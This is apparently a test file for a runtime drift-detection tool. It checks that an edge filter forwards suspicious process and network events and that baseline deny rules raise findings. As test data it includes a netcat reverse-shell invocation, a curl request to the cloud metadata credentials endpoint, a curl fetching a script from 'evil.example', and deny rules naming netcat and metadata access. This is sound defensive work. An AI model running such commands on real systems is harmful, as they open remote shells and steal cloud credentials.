import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import t from 'tap';
import { EdgeFilter } from '../../../agent/filter/edge-filter.js';
import { DIGEST, MIN, T0, WEB, deviationList, exec, fixture, net } from '../../helpers/detection.js';

const HOUR = 60 * MIN;

t.test('the edge gets only what the collector would certainly allow', async (t) => {
  const dir = t.testdir({});
  writeFileSync(
    join(dir, 'deny.yaml'),
    `apiVersion: driftwatch.dev/v1
kind: Baseline
metadata: { name: deny }
spec:
  selector: { namespace: shop }
  deny:
    processes: [{ path: /bin/nc*, args: ["-e *"] }]
    network: [{ direction: egress, ports: [25], cidrs: [0.0.0.0/0] }]
`,
  );
  const resolver = { workloadOf: (ip: string) => (ip === '10.244.9.9' ? 'mon/Deployment/prometheus' : null), serviceOf: () => null };
  const f = await fixture({ baselinesDir: dir, resolver });
  t.teardown(() => f.close());
  const start = T0;
  await f.feed(
    exec('/bin/sh', { time: start + 1000, containerStart: start }),
    exec('/usr/sbin/nginx', { time: start + 10 * MIN, containerStart: start }),
    exec('/bin/ncat', { time: start + 11 * MIN, containerStart: start }),
    net('ingress', { time: start + 12 * MIN, peer: '10.244.1.5', port: 80 }),
    net('ingress', { time: start + 12 * MIN, peer: '10.244.9.9', port: 9113 }),
    net('egress', { time: start + 13 * MIN, peer: '203.0.113.5', port: 25 }),
    net('egress', { time: start + 13 * MIN, peer: '203.0.113.5', port: 443 }),
    net('listen', { time: start + 14 * MIN, port: 80 }),
  );
  await f.engine.unitOfWork.tick(start + 2 * HOUR);
  const [edge] = (await f.engine.edge.forWorkloads([WEB]));
  t.equal(edge!.phase, 'active');
  t.same(edge!.allow, [
    `i|${DIGEST}`,
    'n|egress|tcp|443|ip|203.0.113.5',
    'n|egress|tcp|443|net|203.0.113.0/24',
    'n|ingress|tcp|80|net|10.244.0.0/16',
    'n|listen|tcp|80|-',
    'p|/usr/sbin/nginx',
  ]);
  t.comment('left out: /bin/sh (start-up only), /bin/ncat (a deny rule may match), port 25 (denied), the resolved prometheus workload');
  t.equal((await f.engine.edge.forWorkloads([WEB]))[0]!.hash, edge!.hash, 'same content, same hash');
  t.same((await f.engine.edge.forWorkloads([{ ...WEB, name: 'unknown' }])), [], 'no baseline yet: nothing to filter');

  // Every key the agent drops is one the collector allows.
  const filter = new EdgeFilter();
  filter.replaceAll([edge!]);
  const later = start + 3 * HOUR;
  const probes = [
    exec('/usr/sbin/nginx', { time: later }),
    exec('/bin/sh', { time: later }),
    exec('/bin/ncat', { time: later, args: '-e /bin/sh 1.2.3.4 25' }),
    net('ingress', { time: later, peer: '10.244.200.1', port: 80 }),
    net('egress', { time: later, peer: '203.0.113.5', port: 443 }),
    net('egress', { time: later, peer: '203.0.113.5', port: 25 }),
  ];
  const before = f.store.connection.get<{ n: number }>('SELECT COUNT(*) AS n FROM deviations')!.n;
  const sent = probes.filter((o) => filter.shouldSend(o));
  await f.feed(...probes.filter((o) => !sent.includes(o)));
  t.equal(f.store.connection.get<{ n: number }>('SELECT COUNT(*) AS n FROM deviations')!.n, before, 'what the edge dropped raises nothing centrally');
  t.equal(sent.length, 3, 'sh in steady state, ncat and port 25 go to the collector');
});

t.test('while learning, a deny rule with args fires even right after a harmless run of the same exe', async (t) => {
  const dir = t.testdir({
    'deny.yaml': `apiVersion: driftwatch.dev/v1
kind: Baseline
metadata: { name: imds }
spec:
  selector: { namespace: shop }
  deny:
    processes: [{ path: /usr/bin/curl, args: ["*169.254.169.254*"] }]
`,
  });
  const f = await fixture({ baselinesDir: dir });
  t.teardown(() => f.close());
  const filter = new EdgeFilter();
  const viaEdge = (...obs: Parameters<typeof f.feed>): Promise<void> => f.feed(...obs.filter((o) => filter.shouldSend(o)));
  await viaEdge(exec('/usr/sbin/nginx', { time: T0 }));
  filter.replaceAll(await f.engine.edge.forWorkloads([WEB]));
  t.equal((await f.engine.edge.forWorkloads([WEB]))[0]!.phase, 'learning');
  t.same((await f.engine.edge.forWorkloads([WEB]))[0]!.alwaysSend, ['/usr/bin/curl']);
  await viaEdge(
    exec('/usr/bin/curl', { time: T0 + 1000, args: '-s https://example.com/' }),
    exec('/usr/bin/curl', { time: T0 + 2000, args: '-s http://169.254.169.254/latest/meta-data/iam/security-credentials/' }),
  );
  t.same(deviationList(f), ['denied p|/usr/bin/curl critical open']);
});

t.test('under replace, an allow rule with args sees every run of its exe while learning', async (t) => {
  const dir = t.testdir({
    'web.yaml': `apiVersion: driftwatch.dev/v1
kind: Baseline
metadata: { name: web }
spec:
  selector: { namespace: shop, workload: web }
  mode: replace
  allow:
    processes: [{ path: /usr/sbin/nginx }, { path: /usr/bin/curl, args: ["-s http://localhost:*/healthz"] }]
`,
  });
  const f = await fixture({ baselinesDir: dir });
  t.teardown(() => f.close());
  const filter = new EdgeFilter();
  const viaEdge = (...obs: Parameters<typeof f.feed>): Promise<void> => f.feed(...obs.filter((o) => filter.shouldSend(o)));
  await viaEdge(exec('/usr/sbin/nginx', { time: T0 }));
  filter.replaceAll(await f.engine.edge.forWorkloads([WEB]));
  await viaEdge(exec('/usr/bin/curl', { time: T0 + 1000, args: '-s http://localhost:8080/healthz' }), exec('/usr/bin/curl', { time: T0 + 2000, args: '-s http://evil.example/x.sh' }));
  t.same(deviationList(f), ['process p|/usr/bin/curl high open']);
});

t.test('start and close are idempotent', async (t) => {
  const f = await fixture();
  await f.engine.close();
  await f.engine.close();
  await f.close();
  t.pass();
});
